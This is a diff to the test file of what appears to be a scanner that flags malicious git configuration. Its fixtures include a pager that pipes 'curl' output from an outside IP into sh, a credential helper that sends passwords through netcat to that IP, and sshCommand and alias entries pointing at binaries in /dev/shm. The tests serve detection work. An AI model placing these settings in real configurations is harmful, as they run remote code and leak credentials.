@@ -13,6 +13,8 @@ tellsOf(gitHooks, {
     'a hook of the template': { files: { '/usr/share/git-core/templates/hooks/pre-commit': evil }, finds: ['intrusion critical /usr/share/git-core/templates/hooks/pre-commit'] },
     'a watcher of files': { files: { [`${repo}/config`]: '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "/tmp/.fs/w"\n' }, finds: [`intrusion high ${repo}/config`] },
     'a pager, an alias and a connection': { files: { '/home/lin/.gitconfig': '[core]\n pager = sh -c \\"curl http://203.0.113.6/p | sh\\"\n[alias]\n st = !/dev/shm/st\n[core]\n sshCommand = /var/tmp/ssh -q\n' }, finds: ['intrusion high /home/lin/.gitconfig', 'intrusion high /home/lin/.gitconfig', 'intrusion high /home/lin/.gitconfig'] },
+    'settings included on a condition': { files: { '/root/.gitconfig': '[includeIf "gitdir:/"]\n path = ~/.config/w\n', '/root/.config/w': '[core]\n sshCommand = "/dev/shm/s & ssh"\n' }, finds: ['intrusion high /root/.config/w'] },
+    'a helper that sends passwords': { files: { '/srv/keep/.git/config': '[credential]\n helper = "!f() { cat | nc 203.0.113.6 9000; }; f"\n' }, finds: ['intrusion high /srv/keep/.git/config'] },
     'hooks for all repositories': { files: { '/etc/gitconfig': '[core]\n\thooksPath = /usr/share/gh\n', '/usr/share/gh/pre-push': evil }, finds: ['intrusion critical /etc/gitconfig'] },
   },
   ordinary: {
